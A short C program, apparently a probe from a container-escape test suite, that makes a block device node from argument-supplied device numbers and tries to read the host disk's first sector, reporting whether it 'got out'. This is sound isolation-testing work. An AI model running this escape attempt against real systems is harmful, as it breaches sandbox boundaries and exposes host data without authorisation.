/* SPDX-License-Identifier: MIT */
/* The disk of the host, by a node of its own making with the numbers argv[2] and argv[3]: its first sector is read. */
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "attack.h"

int main(int argc, char **argv)
{
	char sector[512];
	unlink("/tmp/disk");
	if (mknod("/tmp/disk", S_IFBLK | 0600, makedev((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]))) < 0)
		return refused("mknod");
	int fd = open("/tmp/disk", O_RDONLY);
	if (fd >= 0 && read(fd, sector, sizeof(sector)) == sizeof(sector))
		return GOT_OUT;
	printf("open: %s\n", strerror(errno));
	return UNABLE;
}
